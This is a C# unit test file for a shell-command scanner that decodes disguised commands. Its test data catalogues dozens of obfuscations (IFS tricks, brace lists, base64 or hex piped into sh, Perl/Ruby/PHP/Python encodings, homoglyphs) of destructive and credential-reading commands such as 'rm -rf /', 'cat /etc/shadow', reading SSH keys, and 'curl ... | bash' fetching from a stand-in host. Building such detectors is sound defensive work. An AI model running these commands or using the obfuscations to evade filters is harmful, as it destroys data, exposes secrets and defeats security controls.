using System.Text;
using Pipelock.Scanners.Shell;

namespace Pipelock.Scanners.Tests.Shell;

public sealed class ShellTextTests
{
    /// <summary>A command, and what one of its readings must hold.</summary>
    public static TheoryData<string, string, string> Disguised => new()
    {
        { "quotes in a word", "c''a\"\"t /etc/shadow", "cat /etc/shadow" },
        { "a path with detours", "cat /var/../etc//./shadow", "cat /etc/shadow" },
        { "an escaped path", "cat /%65%74%63/%73hadow", "cat /etc/shadow" },
        { "a variable nobody set between letters", "r${x}m -rf /", "rm -rf /" },
        { "quoted letters", "'c'\"a\"t /etc/shadow", "cat /etc/shadow" },
        { "backslashes", @"r\m -rf /", "rm -rf /" },
        { "line continuation", "r\\\nm -rf /", "rm -rf /" },
        { "ANSI-C octal", @"$'\162\155' -rf /home", "rm -rf /home" },
        { "ANSI-C hexadecimal", @"$'\x72\x6d' -rf /home", "rm -rf /home" },
        { "ANSI-C Unicode", @"$'\u0072\U0000006d' -rf /home", "rm -rf /home" },
        { "IFS", "cat$IFS/etc/passwd", "cat /etc/passwd" },
        { "IFS in braces", "cat${IFS}/etc/passwd", "cat /etc/passwd" },
        { "IFS and a positional parameter", "cat$IFS$9/etc/passwd", "cat /etc/passwd" },
        { "words cut at what IFS says", "IFS=,;c=rm,-rf,/home;$c", "rm -rf /home" },
        { "words cut there in braces", "IFS=_; c=cat_/etc/shadow; ${c}", "cat /etc/shadow" },
        { "positional parameters", "c$@at /e${@}tc/pa$*sswd", "cat /etc/passwd" },
        { "a list in braces", "{cat,/etc/passwd}", "cat /etc/passwd" },
        { "a prefix and a list", "/bin/{rm,} -rf /tmp/x", "/bin/rm" },
        { "a URL in a list", "{curl,-s,http://x.example/p}|{bash,}", "curl -s http://x.example/p|bash" },
        { "a suffix", "/etc/{shadow,x}.bak", "/etc/shadow.bak" },
        { "nested lists", "{c{a,u}t,/etc/passwd}", "cat" },
        { "redirected input", "cat</etc/passwd", "cat < /etc/passwd" },
        { "a variable", "a=rm; $a -rf /", "rm -rf /" },
        { "variables put together", "a=r;b=m;$a$b -rf /", "rm -rf /" },
        { "variables in braces", "X=/etc/shadow; cat ${X}", "cat /etc/shadow" },
        { "percent-encoding", "%63%61%74%20%2fetc%2fshadow", "cat /etc/shadow" },
        { "a variable put together", "cmd=cu; cmd+=rl; $cmd https://x.example | sh", "curl https://x.example" },
        { "an unset variable in a word", "r${x}m -rf /", "rm -rf /" },
        { "a list that holds an address", "{curl,-s,https://x.example/a}|sh", "curl -s https://x.example/a" },
        { "blanks that no shell knows", "rm\u00A0-rf\u00A0/home", "rm -rf /home" },
        { "an array", "a=(cat /etc shadow); ${a[0]} ${a[1]}/${a[2]}", "cat /etc/shadow" },
        { "a whole array", "x=('rm' -rf /home); \"${x[@]}\"", "'rm' -rf /home" },
        { "an array by its name", "x=(rm); $x -rf /", "rm -rf /" },
        { "a format", "$(printf '%s%s' 'cu' 'rl') https://x.example", "curl https://x.example" },
        { "a format over and over", "$(printf %c rest many) -rf /", "rm -rf /" },
        { "a format of characters", "$(printf '%c%s' cat at) /etc/shadow", "cat /etc/shadow" },
        { "carets", "cmd /c c^u^r^l https://x.example", "curl https://x.example" },
        { "an indirect variable", "a=rm; b=a; ${!b} -rf /", "rm -rf /" },
        { "a part of a variable", "a=xrmx; ${a:1:2} -rf /", "rm -rf /" },
        { "a slash from HOME", "cat ${HOME:0:1}etc${HOME:0:1}passwd", "cat /etc/passwd" },
        { "a slash from PATH", "cat ${PATH:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd" },
        { "a default value", "${none:-rm} -rf /", "rm -rf /" },
        { "a replaced part", "a=rXm; ${a/X/} -rf /", "rm -rf /" },
        { "all parts replaced", "a=cXaXt; ${a//X/} /etc/passwd", "cat /etc/passwd" },
        { "an empty variable in a word", "c$zz\"a\"t /etc/passwd", "cat /etc/passwd" },
        { "substitution by echo", "$(echo rm) -rf /", "rm -rf /" },
        { "substitution by backquotes", "`echo rm` -rf /", "rm -rf /" },
        { "substitution by printf", @"$(printf '\x72\x6d') -rf /", "rm -rf /" },
        { "substitution by printf %s", "$(printf %s rm) -rf /", "rm -rf /" },
        { "substitution by echo -e", @"$(echo -e '\0162\0155') -rf /", "rm -rf /" },
        { "substitutions within each other", "$(echo $(echo rm)) -rf /", "rm -rf /" },
        { "wildcards for letters", "cat /e?c/p*wd", "cat /etc/passwd" },
        { "nothing but wildcards", "/???/??t /e?c/sh?dow", "/etc/shadow" },
        { "a set of letters", "/bin/c[a-b]t /etc/[p]asswd", "/etc/passwd" },
        { "a key behind wildcards", "cat ~/.ssh/id_r?a", "~/.ssh/id_rsa" },
        { "rev", "echo 'dwssap/cte/ tac' | rev | sh", "cat /etc/passwd" },
        { "Python's reverse", "python3 -c \"import os; os.system('dwssap/cte/ tac'[::-1])\"", "cat /etc/passwd" },
        { "base64", "echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /" },
        { "base64 long option", "base64 --decode <<< cm0gLXJmIC8K | bash", "rm -rf /" },
        { "openssl", "echo cm0gLXJmIC8K | openssl enc -d -base64 | sh", "rm -rf /" },
        { "xxd", "echo 726d202d7266202f | xxd -r -p | sh", "rm -rf /" },
        { "PowerShell", "powershell -enc cgBtACAALQByAGYAIAAvAA==", "rm -rf /" },
        { "Python base64", "python3 -c \"exec(__import__('base64').b64decode('cm0gLXJmIC8='))\"", "rm -rf /" },
        { "Node base64", "node -e \"eval(atob('cm0gLXJmIC8='))\"", "rm -rf /" },
        { "Perl pack", "perl -e 'system(pack(\"H*\",\"726d202d7266202f\"))'", "rm -rf /" },
        { "Perl pack by a counted template", "perl -e 'exec pack \"H16\", \"726d202d7266202f\"'", "rm -rf /" },
        { "Perl pack, low half first", "perl -e 'exec pack(q{h*},q{27d602d2276602f2})'", "rm -rf /" },
        { "Perl chr", "perl -e 'exec chr(114).chr(109).chr(32).chr(45).chr(114).chr(102)'", "rm -rf" },
        { "Ruby pack", "ruby -e 'system([\"726d202d7266202f\"].pack(\"H*\"))'", "rm -rf /" },
        { "Ruby pack of numbers", "ruby -e 'exec [114,109,32,45,114,102,32,47].pack(\"c*\")'", "rm -rf /" },
        { "Ruby unpack", "ruby -e 'exec \"cm0gLXJmIC8=\".unpack(\"m\")[0]'", "rm -rf /" },
        { "PHP pack", "php -r 'system(pack(\"H*\", \"726d202d7266202f\"));'", "rm -rf /" },
        { "PHP chr", "php -r 'system(chr(114) . chr(109) . chr(32) . chr(45) . chr(102));'", "rm -f" },
        { "Python chr", "python3 -c \"exec(''.join(map(chr,[114,109,32,45,114,102,32,47])))\"", "rm -rf /" },
        { "Python bytes", "python3 -c \"exec(bytes((0x72,0x6d,0x20,0x2d,0x72,0x66,0x20,0x2f)))\"", "rm -rf /" },
        { "Python escapes", @"python3 -c ""import os; os.system('\x72\x6d\x20\x2d\x72\x66')""", "rm -rf" },
        { "JavaScript", "node -e \"eval(String.fromCharCode(114,109,32,45,114,102,32,47))\"", "rm -rf /" },
        { "PowerShell characters", "powershell \"iex ([char]114+[char]109+[char]32+[char]45+[char]114)\"", "rm -r" },
        { "awk", "awk 'BEGIN{system(sprintf(\"%c%c%c%c%c\",114,109,32,45,114))}'", "rm -r" },
        { "ROT13", "echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "rm -rf /" },
        { "full-width letters", "\uFF32\uFF4D -rf /home", "Rm -rf /home" },
        { "Cyrillic letters", "c\u0430t /\u0435tc/p\u0430sswd", "cat /etc/passwd" },
        { "zero-width characters", "c\u200Bat /etc/\u200Dpasswd", "cat /etc/passwd" },
        { "letters and quotes", "c\u0430''t /e\\tc/passwd", "cat /etc/passwd" },
        { "encoded and quoted", "echo YycnYXQgL2V0Yy9zaGFkb3c= | base64 -d | sh", "cat /etc/shadow" },
        { "eval of pieces", "eval \"r\"\"m\" -rf /", "rm -rf /" },
        { "a here-string", "bash <<< 'r'\"m -rf /\"", "rm -rf /" },
        { "export", "export A=rm; $A -rf /", "rm -rf /" },
    };

    public static TheoryData<string> Unchanged =>
        new("", "ls -la", "git status", "npm run build", "make all", "rm -rf /", "go test ./...");

    [Theory]
    [MemberData(nameof(Disguised))]
    public void A_disguised_command_is_read(string disguise, string command, string plain)
    {
        var readings = Readings(command);
        Assert.True(
            readings.Exists(reading => reading.Contains(plain, StringComparison.Ordinal)),
            $"{disguise}: {string.Join(" | ", readings)}");
    }

    [Theory]
    [MemberData(nameof(Unchanged))]
    public void A_plain_command_has_no_other_reading(string command) => Assert.Empty(Readings(command));

    [Fact]
    public void Readings_differ_from_the_command_and_from_each_other()
    {
        foreach (var row in Disguised)
        {
            List<string> all = [(string)row[1], .. Readings((string)row[1])];
            Assert.Equal(all.Count, all.Distinct().Count());
            Assert.True(all.Count <= ShellText.MaxReadings + 1);
        }
    }

    [Theory]
    [InlineData("{a,b}")]
    [InlineData("$(echo ")]
    [InlineData("`")]
    [InlineData("a=$a$a;")]
    [InlineData("${HOME:0:1}")]
    [InlineData("\\x")]
    [InlineData("'\"")]
    [InlineData("/?")]
    [InlineData("[a-")]
    [InlineData("rev ")]
    [InlineData("base64 QUJD")]
    public void Readings_stay_bounded(string piece)
    {
        var command = string.Concat(Enumerable.Repeat(piece, 4000));
        var length = Encoding.UTF8.GetByteCount(command);
        Assert.True(Readings(command).Sum(reading => reading.Length) <= (16 * length) + (64 * 1024));
    }

    [Fact]
    public void Random_bytes_never_throw()
    {
        var random = new Random(7);
        const string Marks = "$`'\"\\{}()[]*?<>|;&=,:/ \n!#@-09afAFrev x64base\u0430";
        for (var round = 0; round < 5000; round++)
        {
            var text = new char[random.Next(60)];
            for (var i = 0; i < text.Length; i++)
                text[i] = Marks[random.Next(Marks.Length)];
            Readings(new string(text));
        }
    }

    [Fact]
    public void Reading_allocates_nothing()
    {
        var command = Encoding.UTF8.GetBytes("a=rm; c''at ${HOME:0:1}etc | {ls,-l} $(echo x) /e?c/passwd");
        Count(command);
        var before = GC.GetAllocatedBytesForCurrentThread();
        for (var i = 0; i < 50; i++)
            Count(command);
        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
    }

    private static int Count(byte[] command)
    {
        var count = 0;
        using var text = ShellText.Read(command);
        while (text.MoveNext())
            count += text.Current.Length;
        return count;
    }

    private static List<string> Readings(string command)
    {
        List<string> readings = [];
        using var text = ShellText.Read(Encoding.UTF8.GetBytes(command));
        while (text.MoveNext())
            readings.Add(Encoding.UTF8.GetString(text.Current));
        return readings;
    }
}
